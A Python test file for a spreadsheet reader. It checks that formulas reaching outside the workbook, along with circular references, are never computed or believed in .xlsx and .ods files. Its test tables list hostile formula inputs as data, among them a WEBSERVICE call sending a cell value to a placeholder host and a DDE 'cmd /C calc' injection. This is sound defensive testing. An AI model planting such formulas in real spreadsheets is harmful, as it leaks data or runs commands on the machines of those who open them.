"""A formula that would leave the workbook is never computed and never believed, in any format."""

from __future__ import annotations

from typing import TYPE_CHECKING
from xml.sax.saxutils import escape, quoteattr

import pytest

from normreg_sheets.submission.reader import read
from normreg_sheets.submission.recalculation import recalculated
from tests.submission.ods import held, row
from tests.submission.parts import pack_ods, pack_rows, table

if TYPE_CHECKING:
    from pathlib import Path

OUTSIDE = "it reaches outside the workbook"
OPENXML = {
    'WEBSERVICE("http://x/?"&A1)': OUTSIDE,
    '_xlfn.WEBSERVICE("http://x")': OUTSIDE,
    'HYPERLINK("http://x",1)': OUTSIDE,
    '_xlfn.IMAGE("http://x")': OUTSIDE,
    'RTD("a",,"b")': OUTSIDE,
    "cmd|'/C calc'!A0": OUTSIDE,
    "[1]Sheet!A1": OUTSIDE,
    "'[key.xlsx]S'!A1": OUTSIDE,
    '_xlfn.STOCKHISTORY("x",1)': OUTSIDE,
    'INDIRECT("[key.xlsx]S!A1")': "INDIRECT reads cells that are not named",
    "B1+1": "it reads its own result in a circle",
    "C1*1": "it reads its own result in a circle",
}
OPENDOCUMENT = {
    'of:=WEBSERVICE("http://x")': OUTSIDE,
    'of:=HYPERLINK("http://x";1)': OUTSIDE,
    'of:=DDE("soffice";"key.ods";"A1")': OUTSIDE,
    "of:=['file:///tmp/key.ods'#$S.A1]": OUTSIDE,
    "of:=SUM(['http://x/key.ods'#$S.A1:.B2])": OUTSIDE,
    'of:=COM.EXAMPLE.WEBSERVICE("x")': OUTSIDE,
    "msoxl:=[1]Sheet!A1": OUTSIDE,
    "of:=[.B1]+1": "it reads its own result in a circle",
}


def why_lost(path: Path) -> tuple[object, str]:
    """The value that is stored in B1, and why it is not what the formula gives."""
    sheets = read(path).sheets
    computed = recalculated(sheets)
    assert ("S", "B1") not in computed.given
    return sheets["S"]["B1"].value, computed.lost["S", "B1"]


@pytest.mark.parametrize("formula", OPENXML)
def test_of_an_xlsx(formula: str, tmp_path: Path) -> None:
    cells = f"<c><v>1</v></c><c><f>{escape(formula)}</f><v>7</v></c><c><f>B1</f><v>7</v></c>"
    stored, why = why_lost(pack_rows(tmp_path / "sheet.xlsx", f"<row>{cells}</row>"))
    assert stored == 7
    assert why.startswith(OPENXML[formula])


@pytest.mark.parametrize("formula", OPENDOCUMENT)
def test_of_an_ods(formula: str, tmp_path: Path) -> None:
    stated = held("float", "7", "7").replace(
        "<table:table-cell", f"<table:table-cell table:formula={quoteattr(formula)}"
    )
    path = pack_ods(tmp_path / "sheet.ods", table(row(held("float", "1", "1") + stated)))
    stored, why = why_lost(path)
    assert stored == 7
    assert why.startswith(OPENDOCUMENT[formula])
